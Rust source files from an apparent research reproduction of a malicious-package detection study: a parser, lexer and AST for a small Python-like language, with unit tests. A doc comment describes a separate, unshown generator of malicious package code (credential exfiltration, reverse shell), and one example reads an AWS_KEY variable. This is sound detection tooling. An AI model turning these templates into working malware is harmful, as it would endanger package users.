        let module = self.parse_dotted_name()?;
        let alias = if self.eat_keyword("as") {
            Some(self.expect_ident()?)
        } else {
            None
        };
        self.expect_newline()?;
        Ok(Stmt::Import { module, alias })
    }

    fn parse_from_import(&mut self) -> Result<Stmt, ParseErr> {
        self.bump(); // from
        let module = self.parse_dotted_name()?;
        if !self.eat_keyword("import") {
            return Err(self.err("expected 'import' after module path"));
        }
        let name = self.expect_ident()?;
        let alias = if self.eat_keyword("as") {
            Some(self.expect_ident()?)
        } else {
            None
        };
        self.expect_newline()?;
        Ok(Stmt::FromImport {
            module,
            name,
            alias,
        })
    }

    fn parse_dotted_name(&mut self) -> Result<String, ParseErr> {
        let mut name = self.expect_ident()?;
        while matches!(self.peek(), Token::Op(".")) {
            self.bump();
            name.push('.');
            name.push_str(&self.expect_ident()?);
        }
        Ok(name)
    }

    fn parse_def(&mut self) -> Result<Stmt, ParseErr> {
        self.bump(); // def
        let name = self.expect_ident()?;
        self.expect_op("(")?;
        let mut params = Vec::new();
        if !matches!(self.peek(), Token::Op(")")) {
            loop {
                params.push(self.expect_ident()?);
                if matches!(self.peek(), Token::Op(",")) {
                    self.bump();
                } else {
                    break;
                }
            }
        }
        self.expect_op(")")?;
        let body = self.parse_suite()?;
        Ok(Stmt::FunctionDef { name, params, body })
    }

    fn parse_if(&mut self) -> Result<Stmt, ParseErr> {
        self.bump(); // if / elif
        let cond = self.parse_expr()?;
        let body = self.parse_suite()?;
        let orelse = if self.at_keyword("elif") {
            vec![self.parse_if_from_elif()?]
        } else if self.eat_keyword("else") {
            self.parse_suite()?
        } else {
            Vec::new()
        };
        Ok(Stmt::If { cond, body, orelse })
    }

    fn parse_if_from_elif(&mut self) -> Result<Stmt, ParseErr> {
        // `elif` behaves exactly like a nested `if`.
        self.parse_if()
    }

    fn parse_for(&mut self) -> Result<Stmt, ParseErr> {
        self.bump(); // for
        let var = self.expect_ident()?;
        if !self.eat_keyword("in") {
            return Err(self.err("expected 'in' in for statement"));
        }
        let iter = self.parse_expr()?;
        let body = self.parse_suite()?;
        Ok(Stmt::For { var, iter, body })
    }

    fn parse_while(&mut self) -> Result<Stmt, ParseErr> {
        self.bump(); // while
        let cond = self.parse_expr()?;
        let body = self.parse_suite()?;
        Ok(Stmt::While { cond, body })
    }

    fn parse_try(&mut self) -> Result<Stmt, ParseErr> {
        self.bump(); // try
        let body = self.parse_suite()?;
        if !self.eat_keyword("except") {
            return Err(self.err("expected 'except' after try block"));
        }
        let handler = self.parse_suite()?;
        Ok(Stmt::Try { body, handler })
    }

    fn parse_expr(&mut self) -> Result<Expr, ParseErr> {
        self.parse_or()
    }

    fn parse_or(&mut self) -> Result<Expr, ParseErr> {
        let mut lhs = self.parse_and()?;
        while self.at_keyword("or") {
            self.bump();
            let rhs = self.parse_and()?;
            lhs = Expr::Binary {
                op: BinOp::Or,
                lhs: Box::new(lhs),
                rhs: Box::new(rhs),
            };
        }
        Ok(lhs)
    }

    fn parse_and(&mut self) -> Result<Expr, ParseErr> {
        let mut lhs = self.parse_not()?;
        while self.at_keyword("and") {
            self.bump();
            let rhs = self.parse_not()?;
            lhs = Expr::Binary {
                op: BinOp::And,
                lhs: Box::new(lhs),
                rhs: Box::new(rhs),
            };
        }
        Ok(lhs)
    }

    fn parse_not(&mut self) -> Result<Expr, ParseErr> {
        if self.eat_keyword("not") {
            let operand = self.parse_not()?;
            return Ok(Expr::Unary {
                op: UnaryOp::Not,
                operand: Box::new(operand),
            });
        }
        self.parse_comparison()
    }

    fn parse_comparison(&mut self) -> Result<Expr, ParseErr> {
        let mut lhs = self.parse_arith()?;
        loop {
            let op = match self.peek() {
                Token::Op("==") => BinOp::Eq,
                Token::Op("!=") => BinOp::Ne,
                Token::Op("<") => BinOp::Lt,
                Token::Op("<=") => BinOp::Le,
                Token::Op(">") => BinOp::Gt,
                Token::Op(">=") => BinOp::Ge,
                Token::Ident(kw) if kw == "in" => BinOp::In,
                _ => break,
            };
            self.bump();
            let rhs = self.parse_arith()?;
            lhs = Expr::Binary {
                op,
                lhs: Box::new(lhs),
                rhs: Box::new(rhs),
            };
        }
        Ok(lhs)
    }

    fn parse_arith(&mut self) -> Result<Expr, ParseErr> {
        let mut lhs = self.parse_term()?;
        loop {
            let op = match self.peek() {
                Token::Op("+") => BinOp::Add,
                Token::Op("-") => BinOp::Sub,
                _ => break,
            };
            self.bump();
            let rhs = self.parse_term()?;
            lhs = Expr::Binary {
                op,
                lhs: Box::new(lhs),
                rhs: Box::new(rhs),
            };
        }
        Ok(lhs)
    }

    fn parse_term(&mut self) -> Result<Expr, ParseErr> {
        let mut lhs = self.parse_factor()?;
        loop {
            let op = match self.peek() {
                Token::Op("*") => BinOp::Mul,
                Token::Op("/") => BinOp::Div,
                Token::Op("%") => BinOp::Mod,
                _ => break,
            };
            self.bump();
            let rhs = self.parse_factor()?;
            lhs = Expr::Binary {
                op,
                lhs: Box::new(lhs),
                rhs: Box::new(rhs),
            };
        }
        Ok(lhs)
    }

    fn parse_factor(&mut self) -> Result<Expr, ParseErr> {
        if matches!(self.peek(), Token::Op("-")) {
            self.bump();
            let operand = self.parse_factor()?;
            return Ok(Expr::Unary {
                op: UnaryOp::Neg,
                operand: Box::new(operand),
            });
        }
        self.parse_power()
    }

    fn parse_power(&mut self) -> Result<Expr, ParseErr> {
        let base = self.parse_postfix()?;
        if matches!(self.peek(), Token::Op("**")) {
            self.bump();
            let exp = self.parse_factor()?; // right-associative
            return Ok(Expr::Binary {
                op: BinOp::Pow,
                lhs: Box::new(base),
                rhs: Box::new(exp),
            });
        }
        Ok(base)
    }

    fn parse_postfix(&mut self) -> Result<Expr, ParseErr> {
        let mut expr = self.parse_atom()?;
        loop {
            match self.peek() {
                Token::Op("(") => {
                    self.bump();
                    let mut args = Vec::new();
                    if !matches!(self.peek(), Token::Op(")")) {
                        loop {
                            args.push(self.parse_expr()?);
                            if matches!(self.peek(), Token::Op(",")) {
                                self.bump();
                            } else {
                                break;
                            }
                        }
                    }
                    self.expect_op(")")?;
                    expr = Expr::Call {
                        callee: Box::new(expr),
                        args,
                    };
                }
                Token::Op(".") => {
                    self.bump();
                    let attr = self.expect_ident()?;
                    expr = Expr::Attribute {
                        value: Box::new(expr),
                        attr,
                    };
                }
                Token::Op("[") => {
                    self.bump();
                    let index = self.parse_expr()?;
                    self.expect_op("]")?;
                    expr = Expr::Index {
                        value: Box::new(expr),
                        index: Box::new(index),
                    };
                }
                _ => break,
            }
        }
        Ok(expr)
    }

    fn parse_atom(&mut self) -> Result<Expr, ParseErr> {
        match self.peek().clone() {
            Token::Int(v) => {
                self.bump();
                Ok(Expr::Int(v))
            }
            Token::Float(v) => {
                self.bump();
                Ok(Expr::Float(v))
            }
            Token::Str(s) => {
                self.bump();
                Ok(Expr::Str(s))
            }
            Token::Ident(name) => {
                if name == "True" {
                    self.bump();
                    Ok(Expr::Bool(true))
                } else if name == "False" {
                    self.bump();
                    Ok(Expr::Bool(false))
                } else if name == "None" {
                    self.bump();
                    Ok(Expr::NoneLit)
                } else if KEYWORDS.contains(&name.as_str()) {
                    Err(self.err(format!("unexpected keyword {name:?}")))
                } else {
                    self.bump();
                    Ok(Expr::Name(name))
                }
            }
            Token::Op("(") => {
                self.bump();
                let inner = self.parse_expr()?;
                self.expect_op(")")?;
                Ok(inner)
            }
            Token::Op("[") => {
                self.bump();
                let mut items = Vec::new();
                if !matches!(self.peek(), Token::Op("]")) {
                    loop {
                        items.push(self.parse_expr()?);
                        if matches!(self.peek(), Token::Op(",")) {
                            self.bump();
                        } else {
                            break;
                        }
                    }
                }
                self.expect_op("]")?;
                Ok(Expr::List(items))
            }
            Token::Op("{") => {
                self.bump();
                let mut pairs = Vec::new();
                if !matches!(self.peek(), Token::Op("}")) {
                    loop {
                        let key = self.parse_expr()?;
                        self.expect_op(":")?;
                        let value = self.parse_expr()?;
                        pairs.push((key, value));
                        if matches!(self.peek(), Token::Op(",")) {
                            self.bump();
                        } else {
                            break;
                        }
                    }
                }
                self.expect_op("}")?;
                Ok(Expr::Dict(pairs))
            }
            other => Err(self.err(format!("unexpected {other}"))),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parses_assignment_and_call() {
        let m = parse("x = os.getenv('HOME')\n").unwrap();
        assert_eq!(m.body.len(), 1);
        match &m.body[0] {
            Stmt::Assign { target, value } => {
                assert_eq!(target, &Expr::name("x"));
                assert_eq!(value.kind(), "Call");
            }
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn parses_function_with_control_flow() {
        let src = "def sync(url, data):\n    if data:\n        requests.post(url, data)\n    else:\n        pass\n    return True\n";
        let m = parse(src).unwrap();
        match &m.body[0] {
            Stmt::FunctionDef { name, params, body } => {
                assert_eq!(name, "sync");
                assert_eq!(params, &["url".to_string(), "data".to_string()]);
                assert_eq!(body.len(), 2);
                assert!(matches!(&body[0], Stmt::If { orelse, .. } if orelse.len() == 1));
            }
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn elif_desugars_to_nested_if() {
        let src = "if a:\n    pass\nelif b:\n    pass\nelse:\n    pass\n";
        let m = parse(src).unwrap();
        match &m.body[0] {
            Stmt::If { orelse, .. } => {
                assert_eq!(orelse.len(), 1);
                assert!(matches!(&orelse[0], Stmt::If { orelse, .. } if orelse.len() == 1));
            }
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn precedence_mul_binds_tighter_than_add() {
        let m = parse("x = a + b * c\n").unwrap();
        match &m.body[0] {
            Stmt::Assign { value, .. } => match value {
                Expr::Binary { op: BinOp::Add, rhs, .. } => {
                    assert!(matches!(rhs.as_ref(), Expr::Binary { op: BinOp::Mul, .. }));
                }
                other => panic!("unexpected {other:?}"),
            },
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn power_is_right_associative() {
        let m = parse("x = a ** b ** c\n").unwrap();
        match &m.body[0] {
            Stmt::Assign { value, .. } => match value {
                Expr::Binary { op: BinOp::Pow, rhs, .. } => {
                    assert!(matches!(rhs.as_ref(), Expr::Binary { op: BinOp::Pow, .. }));
                }
                other => panic!("unexpected {other:?}"),
            },
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn chained_postfix() {
        let m = parse("v = cfg['hosts'][0].name\n").unwrap();
        match &m.body[0] {
            Stmt::Assign { value, .. } => assert_eq!(value.kind(), "Attribute"),
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn try_except_and_raise() {
        let src = "try:\n    risky()\nexcept:\n    raise ValueError('boom')\n";
        let m = parse(src).unwrap();
        assert!(matches!(&m.body[0], Stmt::Try { body, handler }
            if body.len() == 1 && handler.len() == 1));
    }

    #[test]
    fn imports() {
        let m = parse("import os.path as p\nfrom subprocess import run as r\n").unwrap();
        assert_eq!(
            m.body[0],
            Stmt::Import {
                module: "os.path".into(),
                alias: Some("p".into())
            }
        );
        assert_eq!(
            m.body[1],
            Stmt::FromImport {
                module: "subprocess".into(),
                name: "run".into(),
                alias: Some("r".into())
            }
        );
    }

    #[test]
    fn list_and_dict_literals() {
        let m = parse("cfg = {'hosts': [1, 2], 'on': True, 'x': None}\n").unwrap();
        match &m.body[0] {
            Stmt::Assign { value: Expr::Dict(pairs), .. } => assert_eq!(pairs.len(), 3),
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn boolean_operators_and_not() {
        let m = parse("ok = not a and b or c in d\n").unwrap();
        match &m.body[0] {
            Stmt::Assign { value, .. } => {
                assert!(matches!(value, Expr::Binary { op: BinOp::Or, .. }));
            }
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn error_reports_line() {
        let err = parse("x = 1\ny = (\n").unwrap_err();
        assert_eq!(err.line, 2);
    }

    #[test]
    fn invalid_assignment_target_rejected() {
        let err = parse("f() = 3\n").unwrap_err();
        assert!(err.message.contains("assignment target"));
    }

    #[test]
    fn empty_block_rejected() {
        assert!(parse("if x:\npass\n").is_err());
    }

    #[test]
    fn keyword_cannot_be_identifier() {
        assert!(parse("def = 3\n").is_err());
        assert!(parse("x = def\n").is_err());
    }

    #[test]
    fn empty_source_parses_to_empty_module() {
        let m = parse("").unwrap();
        assert!(m.body.is_empty());
        let m = parse("# only a comment\n").unwrap();
        assert!(m.body.is_empty());
    }
}
