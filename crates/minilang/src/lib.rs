//! A mini interpreted-language substrate ("PyLite").
//!
//! The packages in the paper's corpus are interpreted code (Python /
//! JavaScript / Ruby), and two MALGRAPH relations depend on *looking at
//! that code*: the **similar** edge (AST → embedding → clustering, paper
//! §III-A) and the **CC changing operation** (source-code diff between
//! consecutive release attempts, §IV-E, "around 3.7 lines"). This crate
//! provides everything the reproduction needs to make those code paths
//! real rather than mocked:
//!
//! * [`lexer`] / [`parser`] — an indentation-sensitive Python-like
//!   language with functions, control flow, imports, calls, literals;
//! * [`ast`] — the abstract syntax tree, the unit the paper extracts with
//!   the Packj SBOM tool;
//! * [`printer`] — a canonical pretty-printer (`parse ∘ print = id`);
//! * [`canon`] — alpha-renaming canonicalization so the embedding is
//!   robust to the identifier-renaming mutations attackers apply;
//! * [`diff`] — line diff between two programs, driving CC detection;
//! * [`interp`] — a sandboxed, effect-tracing interpreter (the
//!   dynamic-analysis substrate in the style of OSSF package-analysis);
//! * [`gen`] — a generator of *malicious package code*: nine behaviour
//!   templates (credential exfiltration, download-and-execute, reverse
//!   shell, clipboard hijacking, …) composed with benign filler, plus the
//!   small mutation operators attackers use between release attempts.
//!
//! # Examples
//!
//! ```
//! use minilang::{parse, printer::print_module};
//!
//! let src = "import os\n\ndef run():\n    x = os.getenv('AWS_KEY')\n    return x\n";
//! let module = parse(src)?;
//! assert_eq!(print_module(&module), src);
//! # Ok::<(), Box<dyn std::error::Error>>(())
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod ast;
pub mod canon;
pub mod diff;
pub mod gen;
pub mod interp;
pub mod lexer;
pub mod parser;
pub mod printer;

pub use ast::{Expr, Module, Stmt};
pub use diff::line_diff;
pub use parser::{parse, ParseErr};
