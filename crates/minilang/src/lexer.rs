//! Indentation-sensitive lexer for PyLite.

use std::fmt;

/// A lexical token.
#[derive(Debug, Clone, PartialEq)]
pub enum Token {
    /// Identifier or keyword (keywords are distinguished by the parser).
    Ident(String),
    /// Integer literal.
    Int(i64),
    /// Float literal.
    Float(f64),
    /// String literal, unescaped.
    Str(String),
    /// A punctuation or operator token, e.g. `"=="`, `"("`.
    Op(&'static str),
    /// End of a logical line.
    Newline,
    /// Indentation increased.
    Indent,
    /// Indentation decreased (one per level closed).
    Dedent,
    /// End of input (emitted once, after closing dedents).
    Eof,
}

impl fmt::Display for Token {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Token::Ident(s) => write!(f, "identifier {s:?}"),
            Token::Int(v) => write!(f, "integer {v}"),
            Token::Float(v) => write!(f, "float {v}"),
            Token::Str(s) => write!(f, "string {s:?}"),
            Token::Op(op) => write!(f, "{op:?}"),
            Token::Newline => f.write_str("newline"),
            Token::Indent => f.write_str("indent"),
            Token::Dedent => f.write_str("dedent"),
            Token::Eof => f.write_str("end of input"),
        }
    }
}

/// A token plus the 1-based source line it starts on.
#[derive(Debug, Clone, PartialEq)]
pub struct SpannedToken {
    /// The token.
    pub token: Token,
    /// 1-based line number.
    pub line: usize,
}

/// A lexing error.
#[derive(Debug, Clone, PartialEq)]
pub struct LexError {
    /// 1-based line of the offending input.
    pub line: usize,
    /// Description of the problem.
    pub message: String,
}

impl fmt::Display for LexError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "lex error at line {}: {}", self.line, self.message)
    }
}

impl std::error::Error for LexError {}

/// Tokenizes PyLite source.
///
/// Indentation must be spaces (tabs are rejected); each indentation level
/// must return to a previously seen column on dedent. Blank and
/// comment-only lines produce no tokens.
///
/// # Errors
///
/// Returns [`LexError`] on tab indentation, inconsistent dedents,
/// unterminated strings, or characters outside the language.
pub fn lex(source: &str) -> Result<Vec<SpannedToken>, LexError> {
    let mut tokens = Vec::new();
    let mut indents: Vec<usize> = vec![0];
    let mut line_no = 0usize;

    for raw_line in source.split('\n') {
        line_no += 1;
        let line = raw_line.strip_suffix('\r').unwrap_or(raw_line);

        // Measure indentation.
        let mut indent = 0usize;
        let bytes = line.as_bytes();
        while indent < bytes.len() && bytes[indent] == b' ' {
            indent += 1;
        }
        if indent < bytes.len() && bytes[indent] == b'\t' {
            return Err(LexError {
                line: line_no,
                message: "tab indentation is not allowed".into(),
            });
        }
        let rest = &line[indent..];
        if rest.is_empty() || rest.starts_with('#') {
            continue; // blank or comment-only line
        }

        // Emit indent / dedent tokens.
        let current = *indents.last().expect("indent stack never empty");
        if indent > current {
            indents.push(indent);
            tokens.push(SpannedToken {
                token: Token::Indent,
                line: line_no,
            });
        } else if indent < current {
            while *indents.last().expect("indent stack never empty") > indent {
                indents.pop();
                tokens.push(SpannedToken {
                    token: Token::Dedent,
                    line: line_no,
                });
            }
            if *indents.last().expect("indent stack never empty") != indent {
                return Err(LexError {
                    line: line_no,
                    message: format!("inconsistent dedent to column {indent}"),
                });
            }
        }

        lex_line(rest, line_no, &mut tokens)?;
        tokens.push(SpannedToken {
            token: Token::Newline,
            line: line_no,
        });
    }

    while indents.len() > 1 {
        indents.pop();
        tokens.push(SpannedToken {
            token: Token::Dedent,
            line: line_no,
        });
    }
    tokens.push(SpannedToken {
        token: Token::Eof,
        line: line_no,
    });
    Ok(tokens)
}

fn lex_line(rest: &str, line: usize, tokens: &mut Vec<SpannedToken>) -> Result<(), LexError> {
    let chars: Vec<char> = rest.chars().collect();
    let mut i = 0usize;
    let push = |tokens: &mut Vec<SpannedToken>, token: Token| {
        tokens.push(SpannedToken { token, line });
    };

    while i < chars.len() {
        let c = chars[i];
        match c {
            ' ' => {
                i += 1;
            }
            '#' => break, // trailing comment
            '\'' | '"' => {
                let quote = c;
                i += 1;
                let mut value = String::new();
                let mut closed = false;
                while i < chars.len() {
                    let ch = chars[i];
                    if ch == '\\' {
                        i += 1;
                        let esc = *chars.get(i).ok_or_else(|| LexError {
                            line,
                            message: "dangling escape at end of line".into(),
                        })?;
                        value.push(match esc {
                            'n' => '\n',
                            't' => '\t',
                            '\\' => '\\',
                            '\'' => '\'',
                            '"' => '"',
                            other => {
                                return Err(LexError {
                                    line,
                                    message: format!("unknown escape \\{other}"),
                                })
                            }
                        });
                        i += 1;
                    } else if ch == quote {
                        i += 1;
                        closed = true;
                        break;
                    } else {
                        value.push(ch);
                        i += 1;
                    }
                }
                if !closed {
                    return Err(LexError {
                        line,
                        message: "unterminated string literal".into(),
                    });
                }
                push(tokens, Token::Str(value));
            }
            c if c.is_ascii_digit() => {
                let start = i;
                while i < chars.len() && chars[i].is_ascii_digit() {
                    i += 1;
                }
                let mut is_float = false;
                if i + 1 < chars.len() && chars[i] == '.' && chars[i + 1].is_ascii_digit() {
                    is_float = true;
                    i += 1;
                    while i < chars.len() && chars[i].is_ascii_digit() {
                        i += 1;
                    }
                }
                let text: String = chars[start..i].iter().collect();
                if is_float {
                    let v = text.parse().map_err(|_| LexError {
                        line,
                        message: format!("bad float literal {text:?}"),
                    })?;
                    push(tokens, Token::Float(v));
                } else {
                    let v = text.parse().map_err(|_| LexError {
                        line,
                        message: format!("integer literal out of range: {text}"),
                    })?;
                    push(tokens, Token::Int(v));
                }
            }
            c if c.is_ascii_alphabetic() || c == '_' => {
                let start = i;
                while i < chars.len() && (chars[i].is_ascii_alphanumeric() || chars[i] == '_') {
                    i += 1;
                }
                push(tokens, Token::Ident(chars[start..i].iter().collect()));
            }
            _ => {
                // Operators, longest first — matched on chars directly so
                // no temporary strings are allocated per token.
                let next = chars.get(i + 1).copied();
                let two = match (c, next) {
                    ('*', Some('*')) => Some("**"),
                    ('=', Some('=')) => Some("=="),
                    ('!', Some('=')) => Some("!="),
                    ('<', Some('=')) => Some("<="),
                    ('>', Some('=')) => Some(">="),
                    ('-', Some('>')) => Some("->"),
                    _ => None,
                };
                if let Some(op) = two {
                    push(tokens, Token::Op(op));
                    i += 2;
                } else {
                    let one = match c {
                        '+' => Some("+"),
                        '-' => Some("-"),
                        '*' => Some("*"),
                        '/' => Some("/"),
                        '%' => Some("%"),
                        '=' => Some("="),
                        '<' => Some("<"),
                        '>' => Some(">"),
                        '(' => Some("("),
                        ')' => Some(")"),
                        '[' => Some("["),
                        ']' => Some("]"),
                        '{' => Some("{"),
                        '}' => Some("}"),
                        ':' => Some(":"),
                        ',' => Some(","),
                        '.' => Some("."),
                        _ => None,
                    };
                    if let Some(op) = one {
                        push(tokens, Token::Op(op));
                        i += 1;
                    } else {
                        return Err(LexError {
                            line,
                            message: format!("unexpected character {c:?}"),
                        });
                    }
                }
            }
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn toks(src: &str) -> Vec<Token> {
        lex(src).unwrap().into_iter().map(|t| t.token).collect()
    }

    #[test]
    fn simple_line() {
        assert_eq!(
            toks("x = 1"),
            vec![
                Token::Ident("x".into()),
                Token::Op("="),
                Token::Int(1),
                Token::Newline,
                Token::Eof
            ]
        );
    }

    #[test]
    fn strings_and_escapes() {
        assert_eq!(
            toks(r#"s = 'a\'b' "c\nd""#),
            vec![
                Token::Ident("s".into()),
                Token::Op("="),
                Token::Str("a'b".into()),
                Token::Str("c\nd".into()),
                Token::Newline,
                Token::Eof
            ]
        );
    }

    #[test]
    fn unterminated_string_is_error() {
        assert!(lex("s = 'oops").is_err());
    }

    #[test]
    fn numbers() {
        assert_eq!(
            toks("a = 3.25 + 7"),
            vec![
                Token::Ident("a".into()),
                Token::Op("="),
                Token::Float(3.25),
                Token::Op("+"),
                Token::Int(7),
                Token::Newline,
                Token::Eof
            ]
        );
    }

    #[test]
    fn indent_dedent_pairs() {
        let src = "def f():\n    x = 1\n    if x:\n        pass\ny = 2\n";
        let ts = toks(src);
        let indents = ts.iter().filter(|t| **t == Token::Indent).count();
        let dedents = ts.iter().filter(|t| **t == Token::Dedent).count();
        assert_eq!(indents, 2);
        assert_eq!(dedents, 2);
    }

    #[test]
    fn dangling_indent_closed_at_eof() {
        let ts = toks("if x:\n    pass");
        assert_eq!(ts.iter().filter(|t| **t == Token::Dedent).count(), 1);
        assert_eq!(ts.last(), Some(&Token::Eof));
    }

    #[test]
    fn inconsistent_dedent_is_error() {
        let err = lex("if x:\n        pass\n  y = 1\n").unwrap_err();
        assert!(err.message.contains("inconsistent dedent"), "{err}");
    }

    #[test]
    fn tab_indent_is_error() {
        assert!(lex("if x:\n\tpass\n").is_err());
    }

    #[test]
    fn comments_and_blank_lines_are_skipped() {
        let ts = toks("# header\n\nx = 1  # trailing\n\n# end\n");
        assert_eq!(
            ts,
            vec![
                Token::Ident("x".into()),
                Token::Op("="),
                Token::Int(1),
                Token::Newline,
                Token::Eof
            ]
        );
    }

    #[test]
    fn two_char_operators() {
        let ts = toks("a == b != c <= d >= e ** f");
        let ops: Vec<_> = ts
            .iter()
            .filter_map(|t| match t {
                Token::Op(op) => Some(*op),
                _ => None,
            })
            .collect();
        assert_eq!(ops, vec!["==", "!=", "<=", ">=", "**"]);
    }

    #[test]
    fn unknown_character_is_error() {
        let err = lex("x = 1 @ 2").unwrap_err();
        assert!(err.message.contains("unexpected character"));
    }

    #[test]
    fn line_numbers_are_tracked() {
        let spanned = lex("x = 1\ny = 2\n").unwrap();
        assert_eq!(spanned[0].line, 1);
        assert_eq!(spanned[3].line, 1); // newline of line 1
        assert_eq!(spanned[4].line, 2); // `y`
    }

    #[test]
    fn crlf_is_tolerated() {
        assert_eq!(
            toks("x = 1\r\ny = 2\r\n"),
            toks("x = 1\ny = 2\n")
        );
    }
}
