//! Abstract syntax tree for PyLite.


/// A whole source file: a sequence of statements.
#[derive(Debug, Clone, PartialEq, Default)]
pub struct Module {
    /// Top-level statements in source order.
    pub body: Vec<Stmt>,
}

impl Module {
    /// Creates a module from statements.
    pub fn new(body: Vec<Stmt>) -> Self {
        Module { body }
    }

    /// Total number of AST nodes (statements + expressions), used as a
    /// crude program-size metric by the generator and benchmarks.
    pub fn node_count(&self) -> usize {
        self.body.iter().map(Stmt::node_count).sum()
    }
}

/// A statement.
#[derive(Debug, Clone, PartialEq)]
pub enum Stmt {
    /// `import os` / `import os as o`.
    Import {
        /// Module path, e.g. `os.path`.
        module: String,
        /// Optional local alias.
        alias: Option<String>,
    },
    /// `from os import getenv` / `from os import getenv as ge`.
    FromImport {
        /// Module path.
        module: String,
        /// Imported name.
        name: String,
        /// Optional local alias.
        alias: Option<String>,
    },
    /// `target = value`.
    Assign {
        /// Assignment target (a name, attribute or index expression).
        target: Expr,
        /// Assigned value.
        value: Expr,
    },
    /// A bare expression evaluated for effect, usually a call.
    Expr(Expr),
    /// `def name(params):` and an indented body.
    FunctionDef {
        /// Function name.
        name: String,
        /// Parameter names.
        params: Vec<String>,
        /// Body statements (non-empty).
        body: Vec<Stmt>,
    },
    /// `if cond:` with optional `elif`/`else` chain (desugared so that
    /// `orelse` is either empty, another `If`, or plain statements).
    If {
        /// Condition expression.
        cond: Expr,
        /// Then-branch statements (non-empty).
        body: Vec<Stmt>,
        /// Else-branch statements (possibly empty).
        orelse: Vec<Stmt>,
    },
    /// `for var in iter:`.
    For {
        /// Loop variable name.
        var: String,
        /// Iterated expression.
        iter: Expr,
        /// Body statements (non-empty).
        body: Vec<Stmt>,
    },
    /// `while cond:`.
    While {
        /// Condition expression.
        cond: Expr,
        /// Body statements (non-empty).
        body: Vec<Stmt>,
    },
    /// `try:` / `except:` — the catch-all form malicious droppers use to
    /// stay silent on failure.
    Try {
        /// Guarded statements.
        body: Vec<Stmt>,
        /// Handler statements.
        handler: Vec<Stmt>,
    },
    /// `return` with optional value.
    Return(Option<Expr>),
    /// `raise expr`.
    Raise(Expr),
    /// `pass`.
    Pass,
}

impl Stmt {
    /// Number of AST nodes in this statement, inclusive.
    pub fn node_count(&self) -> usize {
        match self {
            Stmt::Import { .. } | Stmt::FromImport { .. } | Stmt::Pass => 1,
            Stmt::Assign { target, value } => 1 + target.node_count() + value.node_count(),
            Stmt::Expr(e) => 1 + e.node_count(),
            Stmt::FunctionDef { body, .. } => 1 + body.iter().map(Stmt::node_count).sum::<usize>(),
            Stmt::If { cond, body, orelse } => {
                1 + cond.node_count()
                    + body.iter().map(Stmt::node_count).sum::<usize>()
                    + orelse.iter().map(Stmt::node_count).sum::<usize>()
            }
            Stmt::For { iter, body, .. } => {
                1 + iter.node_count() + body.iter().map(Stmt::node_count).sum::<usize>()
            }
            Stmt::While { cond, body } => {
                1 + cond.node_count() + body.iter().map(Stmt::node_count).sum::<usize>()
            }
            Stmt::Try { body, handler } => {
                1 + body.iter().map(Stmt::node_count).sum::<usize>()
                    + handler.iter().map(Stmt::node_count).sum::<usize>()
            }
            Stmt::Return(Some(e)) => 1 + e.node_count(),
            Stmt::Return(None) => 1,
            Stmt::Raise(e) => 1 + e.node_count(),
        }
    }

    /// A short label naming the node kind, used for AST-path embeddings.
    pub fn kind(&self) -> &'static str {
        match self {
            Stmt::Import { .. } => "Import",
            Stmt::FromImport { .. } => "FromImport",
            Stmt::Assign { .. } => "Assign",
            Stmt::Expr(_) => "ExprStmt",
            Stmt::FunctionDef { .. } => "FunctionDef",
            Stmt::If { .. } => "If",
            Stmt::For { .. } => "For",
            Stmt::While { .. } => "While",
            Stmt::Try { .. } => "Try",
            Stmt::Return(_) => "Return",
            Stmt::Raise(_) => "Raise",
            Stmt::Pass => "Pass",
        }
    }
}

/// Binary operators.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum BinOp {
    /// `+`
    Add,
    /// `-`
    Sub,
    /// `*`
    Mul,
    /// `/`
    Div,
    /// `%`
    Mod,
    /// `**`
    Pow,
    /// `==`
    Eq,
    /// `!=`
    Ne,
    /// `<`
    Lt,
    /// `<=`
    Le,
    /// `>`
    Gt,
    /// `>=`
    Ge,
    /// `and`
    And,
    /// `or`
    Or,
    /// `in`
    In,
}

impl BinOp {
    /// Surface syntax of the operator.
    pub fn symbol(self) -> &'static str {
        match self {
            BinOp::Add => "+",
            BinOp::Sub => "-",
            BinOp::Mul => "*",
            BinOp::Div => "/",
            BinOp::Mod => "%",
            BinOp::Pow => "**",
            BinOp::Eq => "==",
            BinOp::Ne => "!=",
            BinOp::Lt => "<",
            BinOp::Le => "<=",
            BinOp::Gt => ">",
            BinOp::Ge => ">=",
            BinOp::And => "and",
            BinOp::Or => "or",
            BinOp::In => "in",
        }
    }

    /// Binding strength; higher binds tighter. Used by the printer to
    /// decide where parentheses are required.
    pub fn precedence(self) -> u8 {
        match self {
            BinOp::Or => 1,
            BinOp::And => 2,
            BinOp::Eq | BinOp::Ne | BinOp::Lt | BinOp::Le | BinOp::Gt | BinOp::Ge | BinOp::In => 3,
            BinOp::Add | BinOp::Sub => 4,
            BinOp::Mul | BinOp::Div | BinOp::Mod => 5,
            BinOp::Pow => 6,
        }
    }
}

/// Unary operators.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum UnaryOp {
    /// `-`
    Neg,
    /// `not`
    Not,
}

/// An expression.
#[derive(Debug, Clone, PartialEq)]
pub enum Expr {
    /// An identifier reference.
    Name(String),
    /// A string literal (stored unescaped).
    Str(String),
    /// An integer literal.
    Int(i64),
    /// A float literal.
    Float(f64),
    /// `True` / `False`.
    Bool(bool),
    /// `None`.
    NoneLit,
    /// `callee(args…)`.
    Call {
        /// Called expression.
        callee: Box<Expr>,
        /// Argument expressions.
        args: Vec<Expr>,
    },
    /// `value.attr`.
    Attribute {
        /// Base expression.
        value: Box<Expr>,
        /// Attribute name.
        attr: String,
    },
    /// `value[index]`.
    Index {
